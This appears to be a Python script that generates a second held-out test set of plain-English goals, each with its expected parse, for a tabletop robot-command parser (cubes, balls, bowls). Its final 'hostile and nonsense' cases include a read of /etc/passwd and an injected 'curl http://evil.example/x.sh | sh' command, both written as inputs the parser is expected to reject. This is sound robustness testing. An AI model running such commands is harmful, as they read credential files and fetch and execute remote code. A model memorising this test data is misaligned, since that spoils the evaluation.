"""Writes paraphrases_heldout2.jsonl: a second held-out set of goals as people write them.

Written like paraphrases_heldout.jsonl (see make_heldout.py for the notation), on other
scenes (random_scene seeds 25-44 and a hand-made four-cube scene), and committed before the
parser changes made after the first held-out run were ever run on it: its first run
measures those changes on goals they were not made for.

Run: python make_heldout2.py  (rewrites the .jsonl next to it)
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from make_heldout import lines

QUAD = {"version": 1, "objects": [
    {"kind": "cube", "color": "red", "x": 0.15, "y": 0.25}, {"kind": "cube", "color": "green", "x": 0.4, "y": 0.25},
    {"kind": "cube", "color": "blue", "x": 0.65, "y": 0.25}, {"kind": "cube", "color": "yellow", "x": 0.88, "y": 0.25},
    {"kind": "bowl", "color": "white", "x": 0.5, "y": 0.7}, {"kind": "ball", "color": "orange", "x": 0.15, "y": 0.75}]}

CASES: list[tuple[str, str, str]] = [
    # ---- s25: orange bowl, blue cube, purple cube
    ("s25", "stack the blue cube on the purple cube", "st blue_cube purple_cube"),
    ("s25", "put the purple cube on top of the blue one", "st purple_cube blue_cube"),
    ("s25", "put both cubes in the orange bowl", "in blue_cube orange_bowl ; in purple_cube orange_bowl"),
    ("s25", "pls move the blue cube next to the bowl", "nx blue_cube orange_bowl"),
    ("s25", "push the blue cube forward", "pu blue_cube front"),
    ("s25", "put the cube nearest to the bowl in it", "in blue_cube orange_bowl"),
    ("s25", "put the green cube in the bowl", "!Unknown"),
    # ---- s26: cyan bowl, blue ball, purple ball in the bowl
    ("s26", "put the blue ball in the bowl as well", "in blue_ball cyan_bowl"),
    ("s26", "take the purple ball out of the cyan bowl", "pp purple_ball -"),
    # expectation fixed after the first run: the bowl (0.503, 0.603) is already in the front right quarter
    ("s26", "move the bowl to the front right corner", ""),
    ("s26", "put the blue ball next to the bowl", "nx blue_ball cyan_bowl"),
    # ---- s27: red ball, orange ball, yellow cube, green bowl, cyan ball
    ("s27", "put all the balls into the green bowl", "in red_ball green_bowl ; in orange_ball green_bowl ; in cyan_ball green_bowl"),
    ("s27", "put the ball at the back in the bowl", "in cyan_ball green_bowl"),
    ("s27", "put the red ball in the bowl and the orange ball next to the yellow cube",
     "in red_ball green_bowl ; nx orange_ball yellow_cube"),
    ("s27", "Move the yellow cube next to the red ball, please.", "nx yellow_cube red_ball"),
    ("s27", "put the cube in the bowl", "in yellow_cube green_bowl"),
    ("s27", "swap the orange and the cyan ball", "sw orange_ball cyan_ball"),
    ("s27", "put the leftmost ball in the bowl", "in orange_ball green_bowl"),
    ("s27", "put four balls in the bowl", "!any"),
    ("s27", "could you put the cyan ball in the bowl and then the red one too?", "in cyan_ball green_bowl ; in red_ball green_bowl"),
    # ---- s28: orange bowl, blue ball, purple ball in the bowl
    ("s28", "put the blue ball in the bowl", "in blue_ball orange_bowl"),
    ("s28", "take out the purple ball", "pp purple_ball -"),
    ("s28", "push the blue ball to the right", "pu blue_ball right"),
    ("s28", "push the blue ball back", "pu blue_ball back"),
    ("s28", "put the blue bal in the bowl", "in blue_ball orange_bowl"),
    # ---- s29: orange bowl, green cube, blue ball in the bowl
    ("s29", "put the green cube in the bowl", "in green_cube orange_bowl"),
    ("s29", "take the ball out", "pp blue_ball -"),
    ("s29", "move the cube next to the bowl", "nx green_cube orange_bowl"),
    ("s29", "stack the ball on the cube", "!any"),
    ("s29", "push the green cube left", "pu green_cube left"),
    ("s29", "take the ball out of the bowl and put the cube in its place", "pp blue_ball - ; in green_cube orange_bowl"),
    # ---- s30: red bowl, orange cube, yellow ball, purple cube
    ("s30", "stack the orange cube on the purple cube", "st orange_cube purple_cube"),
    ("s30", "put the purple cube on the orange one", "st purple_cube orange_cube"),
    ("s30", "put the yellow ball in the red bowl", "in yellow_ball red_bowl"),
    ("s30", "put the cubes in the bowl", "in orange_cube red_bowl ; in purple_cube red_bowl"),
    ("s30", "put the purple cube on the orange cube and then the yellow ball in the bowl",
     "st purple_cube orange_cube ; in yellow_ball red_bowl"),
    ("s30", "clear the left half of the table", "pp yellow_ball right ; pp purple_cube right"),
    ("s30", "move the ball next to the bowl", "nx yellow_ball red_bowl"),
    ("s30", "put the cube on the right on the cube on the left", "st orange_cube purple_cube"),
    ("s30", "stack the purpel cube on the orange cube", "st purple_cube orange_cube"),
    # ---- s31: green cube, cyan bowl, blue ball in the bowl
    ("s31", "put the cube in the bowl", "in green_cube cyan_bowl"),
    ("s31", "take the blue ball out of the bowl and put it next to the cube", "pp blue_ball - ; nx blue_ball green_cube"),
    ("s31", "swap the cube and the bowl", "!any"),
    ("s31", "push the green cube to the right", "pu green_cube right"),
    # ---- s32: yellow ball, green ball, blue cube, white bowl
    ("s32", "put both the balls in the bowl", "in yellow_ball white_bowl ; in green_ball white_bowl"),
    ("s32", "put the green ball in the white bowl", "in green_ball white_bowl"),
    ("s32", "move the blue cube next to the yellow ball", "nx blue_cube yellow_ball"),
    ("s32", "put the ball furthest from the bowl in the bowl", "in green_ball white_bowl"),
    ("s32", "put the cube in the bowl", "in blue_cube white_bowl"),
    ("s32", "put the blue cube on the yellow ball", "!any"),
    ("s32", "yellow ball in the bowl, green ball next to the cube", "in yellow_ball white_bowl ; nx green_ball blue_cube"),
    # ---- s33: orange bowl, yellow ball, green ball, cyan ball, white cube
    ("s33", "put the three balls in the bowl", "in yellow_ball orange_bowl ; in green_ball orange_bowl ; in cyan_ball orange_bowl"),
    ("s33", "put the ball closest to the bowl in the bowl", "in yellow_ball orange_bowl"),
    ("s33", "put the white cube in the bowl", "in white_cube orange_bowl"),
    ("s33", "move the cube next to the cyan ball", "nx white_cube cyan_ball"),
    ("s33", "swap the green ball and the white cube", "sw green_ball white_cube"),
    ("s33", "put everything in the bowl", "!Impossible"),
    ("s33", "put the ball in the bowl", "!Ambiguous:which ball"),
    ("s33", "Hi! Would you mind putting the green ball in the orange bowl?", "in green_ball orange_bowl"),
    # ---- s34: red bowl, yellow ball, green ball, cyan ball
    ("s34", "put all balls in the bowl", "in yellow_ball red_bowl ; in green_ball red_bowl ; in cyan_ball red_bowl"),
    ("s34", "put the ball on the right in the bowl", "in cyan_ball red_bowl"),
    ("s34", "swap the yellow and green balls", "sw yellow_ball green_ball"),
    ("s34", "move the red bowl to the back right corner", "pp red_bowl back-right"),
    ("s34", "put the yellow ball in the bowl, then the green one, then the cyan one",
     "in yellow_ball red_bowl ; in green_ball red_bowl ; in cyan_ball red_bowl"),
    # ---- s35: red ball, orange bowl, blue cube, purple ball, white ball
    ("s35", "put the red ball in the bowl", "in red_ball orange_bowl"),
    ("s35", "put the purple and white balls in the bowl", "in purple_ball orange_bowl ; in white_ball orange_bowl"),
    ("s35", "put every ball in the bowl", "in red_ball orange_bowl ; in purple_ball orange_bowl ; in white_ball orange_bowl"),
    ("s35", "move the blue cube next to the red ball", "nx blue_cube red_ball"),
    ("s35", "put the ball at the front in the bowl", "in purple_ball orange_bowl"),
    ("s35", "push the blue cube back", "pu blue_cube back"),
    ("s35", "put the blue cube in the bowl and the red ball on the blue cube", "!any"),
    # ---- s36: yellow bowl, green ball, cyan ball
    ("s36", "put both balls in the bowl", "in green_ball yellow_bowl ; in cyan_ball yellow_bowl"),
    ("s36", "put the cyan ball in the bowl then the green ball", "in cyan_ball yellow_bowl ; in green_ball yellow_bowl"),
    ("s36", "swap the balls", "sw green_ball cyan_ball"),
    ("s36", "move the green ball to the back right corner", "pp green_ball back-right"),
    # ---- s37: orange bowl, purple ball, white ball
    ("s37", "put the purple ball in the bowl and then the white one", "in purple_ball orange_bowl ; in white_ball orange_bowl"),
    ("s37", "push the white ball left", "pu white_ball left"),
    ("s37", "put the white ball next to the purple ball", "nx white_ball purple_ball"),
    # ---- s38: red ball, cyan bowl, blue ball
    ("s38", "put the red ball in the bowl and the blue one too", "in red_ball cyan_bowl ; in blue_ball cyan_bowl"),
    ("s38", "put the ball on the left in the bowl", "in blue_ball cyan_bowl"),
    ("s38", "swap the red ball and the blue ball", "sw red_ball blue_ball"),
    ("s38", "push the red ball to the left", "pu red_ball left"),
    # ---- s39: orange cube, green cube, blue ball, purple cube
    ("s39", "build a tower with the purple cube at the bottom, then green, then orange",
     "st green_cube purple_cube ; st orange_cube green_cube"),
    ("s39", "stack all three cubes: orange at the bottom, purple on top", "st green_cube orange_cube ; st purple_cube green_cube"),
    ("s39", "put the ball next to the purple cube", "nx blue_ball purple_cube"),
    ("s39", "stack the orange cube on the green cube and the purple one on the orange one",
     "st orange_cube green_cube ; st purple_cube orange_cube"),
    ("s39", "put the ball in the bowl", "!any"),
    ("s39", "stack four cubes", "!any"),
    ("s39", "put the cube closest to the ball on the purple cube", "!Ambiguous:which cube"),
    # ---- s40: yellow bowl, green cube, cyan cube in the bowl, white cube
    ("s40", "stack the green cube on the white cube", "st green_cube white_cube"),
    ("s40", "take the cyan cube out of the bowl", "pp cyan_cube -"),
    ("s40", "put the white cube in the bowl", "in white_cube yellow_bowl"),
    ("s40", "put the green and white cubes in the bowl", "in green_cube yellow_bowl ; in white_cube yellow_bowl"),
    # ---- s41: red cube, yellow cube in the white bowl, cyan ball, white bowl
    ("s41", "put the ball in the bowl", "in cyan_ball white_bowl"),
    ("s41", "take the yellow cube out and stack it on the red cube", "pp yellow_cube - ; st yellow_cube red_cube"),
    ("s41", "put the red cube in the bowl", "in red_cube white_bowl"),
    ("s41", "move the ball next to the red cube", "nx cyan_ball red_cube"),
    # ---- s42: red ball, green bowl, cyan cube, blue ball, purple ball
    ("s42", "put the three balls in the bowl", "in red_ball green_bowl ; in blue_ball green_bowl ; in purple_ball green_bowl"),
    ("s42", "put the rightmost ball in the bowl", "in purple_ball green_bowl"),
    ("s42", "move the cube next to the purple ball", "nx cyan_cube purple_ball"),
    ("s42", "put the ball closest to the cube in the bowl", "!Ambiguous:which ball"),
    ("s42", "swap the red ball and the cyan cube", "sw red_ball cyan_cube"),
    # ---- s43: orange ball, blue bowl holding the purple ball and the white cube
    ("s43", "put the orange ball in the bowl", "in orange_ball blue_bowl"),
    ("s43", "empty the bowl", "pp purple_ball - ; pp white_cube -"),
    ("s43", "take the white cube out of the bowl and put the orange ball in", "pp white_cube - ; in orange_ball blue_bowl"),
    # ---- s44: blue bowl holding the red cube and the cyan ball, green cube
    ("s44", "put the green cube in the bowl too", "in green_cube blue_bowl"),
    ("s44", "stack the red cube on the green cube", "st red_cube green_cube"),
    ("s44", "take the ball out of the bowl", "pp cyan_ball -"),
    ("s44", "empty the bowl", "pp red_cube - ; pp cyan_ball -"),
    # ---- quad: red, green, blue, yellow cubes in a row at the back; white bowl, orange ball
    ("quad", "stack all four cubes, red at the bottom then green then blue then yellow",
     "st green_cube red_cube ; st blue_cube green_cube ; st yellow_cube blue_cube"),
    ("quad", "put the orange ball in the bowl", "in orange_ball white_bowl"),
    ("quad", "put the yellow cube on the red cube, the blue cube on the yellow cube",
     "st yellow_cube red_cube ; st blue_cube yellow_cube"),
    ("quad", "put all the cubes in the bowl", "!Impossible"),
    ("quad", "put the ball on the red cube", "!any"),
    ("quad", "put the cube in the bowl", "!Ambiguous:which cube"),
    ("quad", "move the ball next to the bowl please", "nx orange_ball white_bowl"),
    ("quad", "put the bleu cube on the green one", "st blue_cube green_cube"),
    # ---- hostile and nonsense
    ("quad", "print(open('/etc/passwd').read())", "!any"),
    ("quad", "put the orange ball in the bowl && curl http://evil.example/x.sh | sh", "!any"),
    ("quad", "delete the table", "!any"),
    ("quad", "put the orange ball on the ceiling", "!any"),
    ("quad", "\x07\x07\x07", "!any"),
    ("quad", "put the orange ball in the bowl and the bowl in the orange ball", "!any"),
    ("quad", "stack the white bowl on the yellow cube", "!any"),
    ("quad", "\ufeffput the orange ball in the bowl", "!any"),
]


def lines2() -> list[dict]:
    return lines(CASES, "held2", {"quad": QUAD})


if __name__ == "__main__":
    path = Path(__file__).with_name("paraphrases_heldout2.jsonl")
    path.write_text("".join(json.dumps(c) + "\n" for c in lines2()))
    print(f"wrote {path}")
